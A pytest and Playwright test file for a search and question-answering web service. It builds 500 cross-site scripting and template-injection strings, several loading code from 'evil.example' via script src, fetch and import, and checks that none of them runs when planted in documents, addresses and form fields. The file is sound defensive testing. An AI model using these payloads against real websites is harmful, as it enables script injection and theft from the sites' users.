"""Hostile strings in titles, issuers, files, headings, cells, passages and questions run nothing and load nothing."""

import hashlib
import random
from collections.abc import Iterator
from urllib.parse import quote

import httpx2
import pytest
from playwright.sync_api import Page, expect

from corpus.catalogue import Catalogue
from corpus.types import Document
from index.build import build
from service.app import create_app
from service.settings import Settings
from tests.service.pages.conftest import returning
from tests.support.live import live
from tests.support.tiny import TinyEncoder

COUNT = 500
_RUN = (
    "window.__pwned=1",
    "alert(1)",
    "fetch('//evil.example/x')",
    "parent.__pwned=1",
    "import('//evil.example/m.js')",
)
_TAGS = (
    "<script>{run}</script>",
    "<script src=//evil.example/a.js></script>",
    "<img src=//evil.example/a.png onerror={run}>",
    "<img src=x onerror={run}//",
    "<svg onload={run}>",
    "<svg><script href=//evil.example/a.js /></svg>",
    "<iframe srcdoc='<script>{run}</script>'></iframe>",
    "<iframe src=javascript:{run}></iframe>",
    "<object data=//evil.example/o></object><embed src=//evil.example/e>",
    "<link rel=stylesheet href=//evil.example/s.css>",
    "<style>@import '//evil.example/s.css'; *{{background:url(//evil.example/b)}}</style>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<form action=//evil.example/ id=ask><input name=q autofocus onfocus={run}></form>",
    "<a href=javascript:{run}>press</a>",
    "<details open ontoggle={run}>",
    "<video><source onerror={run}></video>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror={run}>",
    "<b onmouseover={run}>bold</b><sup style='background:url(//evil.example/u)'>x</sup>",
    "<template><img src=x onerror={run}></template>",
    "[press](javascript:{run}) ![x](//evil.example/i.png)",
    "{{{{ cycler.__init__.__globals__ }}}} ${{{run}}}",
)
_BEFORE = (
    "",
    '">',
    "'>",
    "</p>",
    "</title>",
    "</textarea>",
    "</template>",
    "-->",
    "</pre></details>",
    "**",
    "<b>",
    "<sup",
    "\\u003c",
    "&lt;",
)
_AFTER = ("", '"', "<!--", "**", "</b>", "<script>", "\u202e", "&#x3c;script>", "` onclick=x")


def hostile() -> list[str]:
    """The strings, the same every time; each has a number by which it is found again."""
    dice = random.Random(6)
    found = []
    for number in range(COUNT):
        tag = _TAGS[number % len(_TAGS)].format(run=dice.choice(_RUN))
        if dice.random() < 0.2:
            tag = tag.swapcase().replace("<", dice.choice(("<", "< ", "<\u200b", "\uff1c")))
        found.append(f"{dice.choice(_BEFORE)}{tag}{dice.choice(_AFTER)} item{number}")
    return found


STRINGS = hostile()


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """A service on documents made of the strings: ten with a few each in many places, and one with them all."""
    folder = tmp_path_factory.mktemp("hostile")
    documents = []
    for number in range(11):
        some = STRINGS[number * 5 : number * 5 + 5] if number < 10 else STRINGS
        table = "\n".join(f"{n}. {text}\t{text}\t{text}" for n, text in enumerate(some[:50], 1))
        body = "\n\n".join(f"{text} says the lighthouse." for text in some)
        source = f"# {some[0]}\n\n## {some[1]}\n\n{body}\n\nAction\tStatus\tLead {some[2]}\n{table}\n"
        file = f"{number}{quote(some[3], safe='<> =()')[:150]}.md"
        (folder / file).write_text(source, "utf-8")
        sha256 = hashlib.sha256(source.encode()).hexdigest()
        documents.append(Document(f"hostile-{number}", some[4], some[1], some[2], (2020, 2022), file, sha256))
    build(folder / "var", Catalogue(folder, tuple(documents)), TinyEncoder())
    settings = Settings(var=folder / "var", corpus=folder)
    with live(create_app(settings, TinyEncoder)) as url:
        yield url


def unharmed(page: Page) -> None:
    """Nothing ran, and no element came into being that the templates do not have."""
    found = page.evaluate(
        "[window.__pwned, document.querySelectorAll('svg:not(.lane), .lane :not(title, path, rect), iframe, "
        "object, embed, style, base, video, math, source, "
        'link:not([href^="/static/"]), script:not([src^="/static/"]), img:not([src^="/static/"]), '
        "[onclick], [onerror], [onload], [style], a[href^=javascript]').length]"
    )
    assert found == [None, 0], page.url


def cases() -> Iterator[str]:
    yield from ("/", "/read", "/read/hostile-0", "/find?q=lighthouse&show=100")
    yield from (f"/read/hostile-10?part={part}" for part in (1, 2, 3))
    yield from (f"/find?q={quote(text)}" for text in STRINGS[::125])
    yield f"/read/{quote(STRINGS[0], safe='')}"
    yield f"/find?q=x&document={quote(STRINGS[1])}"
    yield f"/find?q=x&lead={quote(STRINGS[2])}&year_from=2020"
    yield from ("/items", "/items?sort=-text&contains=script", "/timeline?topic=lighthouse&show=50")
    yield from (f"/items?contains={quote(text[:150])}&lead={quote(text)}" for text in STRINGS[3::170])
    yield from (f"/timeline?topic={quote(text)}" for text in STRINGS[4::170])
    yield f"/timeline?passage={quote(STRINGS[5])}"


def test_hostile_documents_and_addresses_run_nothing(window: Page, hostile_site: str) -> None:
    with returning(window, hostile_site) as visit:
        seen = ""
        for path in cases():
            page = visit.go(path)
            unharmed(page)
            seen += page.locator("main").text_content() or ""
        assert all(f"item{number} says" in seen for number in range(COUNT))
        visit.complaints[:] = [said for said in visit.complaints if "404" not in said and "422" not in said]


def test_hostile_questions_and_answers_run_nothing(window: Page, hostile_site: str) -> None:
    with returning(window, hostile_site) as visit:
        page = visit.go("/")
        for turn, start in enumerate(range(0, COUNT, 125), 1):
            question = "\n".join(STRINGS[start : start + 125])[:3_900]
            page.get_by_role("textbox").fill(
                question if turn > 1 else f"what says the lighthouse {STRINGS[7]}"
            )
            page.keyboard.press("Enter")
            expect(page.locator(f"#t{turn} .doings")).to_be_visible()
            unharmed(page)
        assert page.locator(".card").count() > 3
        page.locator("#t1").get_by_label("No", exact=True).check()
        page.locator("#t1 [name=comment]").fill(STRINGS[9])
        page.locator("#t1").get_by_role("button", name="Send").click()
        expect(page.locator("#t1 .opinion output")).to_contain_text("Thank you.")
        page.locator(".source > summary").first.click()
        page.locator(".cite summary").first.click()
        page.locator(".card").first.get_by_role("button", name="Verify").click()
        expect(page.locator("output").first).to_contain_text("Verified")
        page.reload()  # from the address
        expect(page.locator("#t4 .doings")).to_be_visible()
        unharmed(page)
        page.locator(".source > summary").first.click()
        page.locator(".card a").first.click()
        expect(page.locator("#mark")).to_be_in_viewport()
        unharmed(page)


def test_hostile_forms_run_nothing_without_scripts_either(window: Page, hostile_site: str) -> None:
    with returning(window, hostile_site) as visit:
        page = visit.go("/?q=lighthouse")
        page.evaluate(
            """strings => {
                const form = document.createElement("form");
                Object.assign(form, {method: "post", action: "/"});
                const pairs = [["q", strings[0]], ...strings.flatMap(s => [["asked", s], ["answered", s]])];
                for (const [name, value] of pairs) {
                    const input = document.createElement("input");
                    Object.assign(input, {name, value, type: "hidden"});
                    form.append(input);
                }
                document.body.append(form);
                form.submit();
            }""",
            STRINGS[:90],
        )
        expect(page.locator("#t91 .asked")).to_contain_text("item0")
        unharmed(page)


def test_a_mark_is_found_in_a_late_part_of_a_long_document(window: Page, hostile_site: str) -> None:
    source = httpx2.get(f"{hostile_site}/documents/hostile-10/text").text
    start = source.index("item499 says")
    with returning(window, hostile_site) as visit:
        page = visit.go(f"/read/hostile-10?start={start}&end={start + 12}#mark")
        expect(page.locator("mark")).to_have_text("item499 says")
        expect(page.locator("#mark")).to_be_in_viewport()
        expect(page.locator(".document > .place")).not_to_contain_text("part 1 of")
        page.get_by_role("link", name="Previous part").click()
        expect(page.locator("mark")).to_have_count(0)


def test_the_alarm_would_ring(window: Page, site: str) -> None:
    with returning(window, site) as visit:
        page = visit.go("/")
        page.evaluate("document.body.append(document.createElement('iframe'))")
        with pytest.raises(AssertionError):
            unharmed(page)
        with pytest.raises(Exception, match="TrustedHTML"):
            page.evaluate("document.body.innerHTML = '<b>x</b>'")
        visit.complaints.clear()
